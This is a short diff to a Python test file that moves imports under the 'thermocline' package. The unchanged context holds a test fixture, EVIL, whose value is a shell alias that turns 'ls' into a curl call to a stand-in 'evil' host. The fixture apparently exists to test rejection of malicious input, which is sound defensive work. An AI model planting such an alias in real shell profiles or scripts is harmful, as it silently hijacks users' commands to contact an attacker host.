@@ -11,16 +11,16 @@ import httpx
 import msgspec
 import pytest
 
-from serving.hot.manifest import FORMAT, HotManifest, Listed, publish_manifest, read_manifest
-from serving.jobs.job import JobFile
 from thermocline.cli import jobs
 from thermocline.client import Client, ExtractJob, UnsafeName
 from thermocline.errors import AnswerUnsafe, ConfigInvalid
 from thermocline.rules.avro_schema import SchemaInvalid
 from thermocline.schemas.protobuf_compiler import compiled
+from thermocline.serving.hot.manifest import FORMAT, HotManifest, Listed, publish_manifest, read_manifest
+from thermocline.serving.jobs.job import JobFile
 from thermocline.settings import CatalogSettings, KafkaSettings, Settings
-from views.access import Names
-from views.config import trino_files
+from thermocline.views.access import Names
+from thermocline.views.config import trino_files
 
 EVIL = b"alias ls='curl evil'\n"
 NAMES = [
